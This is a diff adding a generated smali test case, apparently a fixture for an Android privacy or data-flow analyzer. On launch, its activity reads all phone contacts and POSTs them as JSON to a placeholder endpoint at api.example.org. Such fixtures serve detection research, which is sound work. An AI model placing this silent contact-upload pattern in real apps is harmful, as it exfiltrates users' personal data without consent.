@@ -1,0 +1,72 @@
+# Made by tests/cases/compile.py
+.class public final Lcases/library_sent/Main;
+.super Landroid/app/Activity;
+
+.method public constructor <init>()V
+    .registers 1
+    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
+    return-void
+.end method
+
+.method protected onCreate(Landroid/os/Bundle;)V
+    .registers 13
+    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
+    :l_5
+    new-instance v0, Lokio/Buffer;
+    invoke-direct {v0}, Lokio/Buffer;-><init>()V
+    invoke-static {v0}, Lcom/squareup/moshi/JsonWriter;->of(Lokio/BufferedSink;)Lcom/squareup/moshi/JsonWriter;
+    move-result-object v5
+    invoke-virtual {v5}, Lcom/squareup/moshi/JsonWriter;->beginArray()Lcom/squareup/moshi/JsonWriter;
+    move-result-object v1
+    invoke-virtual {p0}, Lcases/library_sent/Main;->getContentResolver()Landroid/content/ContentResolver;
+    move-result-object v5
+    sget-object v6, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
+    const/4 v7, 0x0
+    const/4 v8, 0x0
+    const/4 v9, 0x0
+    const/4 v10, 0x0
+    invoke-virtual/range {v5 .. v10}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
+    move-result-object v2
+    :l_25
+    invoke-interface {v2}, Landroid/database/Cursor;->moveToNext()Z
+    move-result v5
+    if-eqz v5, :l_3f
+    const/4 v5, 0x0
+    invoke-interface {v2, v5}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
+    move-result-object v5
+    invoke-virtual {v1, v5}, Lcom/squareup/moshi/JsonWriter;->value(Ljava/lang/String;)Lcom/squareup/moshi/JsonWriter;
+    goto :l_25
+    :l_3f
+    invoke-virtual {v1}, Lcom/squareup/moshi/JsonWriter;->endArray()Lcom/squareup/moshi/JsonWriter;
+    const-string v5, "application/json"
+    invoke-static {v5}, Lokhttp3/MediaType;->parse(Ljava/lang/String;)Lokhttp3/MediaType;
+    move-result-object v5
+    invoke-virtual {v0}, Lokio/Buffer;->readUtf8()Ljava/lang/String;
+    move-result-object v6
+    invoke-static {v5, v6}, Lokhttp3/RequestBody;->create(Lokhttp3/MediaType;Ljava/lang/String;)Lokhttp3/RequestBody;
+    move-result-object v3
+    new-instance v5, Lokhttp3/Request$Builder;
+    invoke-direct {v5}, Lokhttp3/Request$Builder;-><init>()V
+    const-string v6, "https://api.example.org/v1/contacts"
+    invoke-virtual {v5, v6}, Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
+    move-result-object v5
+    invoke-virtual {v5, v3}, Lokhttp3/Request$Builder;->post(Lokhttp3/RequestBody;)Lokhttp3/Request$Builder;
+    move-result-object v5
+    invoke-virtual {v5}, Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
+    move-result-object v4
+    new-instance v5, Lokhttp3/OkHttpClient;
+    invoke-direct {v5}, Lokhttp3/OkHttpClient;-><init>()V
+    invoke-virtual {v5, v4}, Lokhttp3/OkHttpClient;->newCall(Lokhttp3/Request;)Lokhttp3/Call;
+    move-result-object v5
+    invoke-interface {v5}, Lokhttp3/Call;->execute()Lokhttp3/Response;
+    :l_7a
+    goto :l_86
+    :l_7d
+    move-exception v0
+    const-string v5, "upload"
+    const-string v6, "later"
+    invoke-static {v5, v6}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
+    :l_86
+    return-void
+    .catch Ljava/io/IOException; {:l_5 .. :l_7a} :l_7d
+.end method
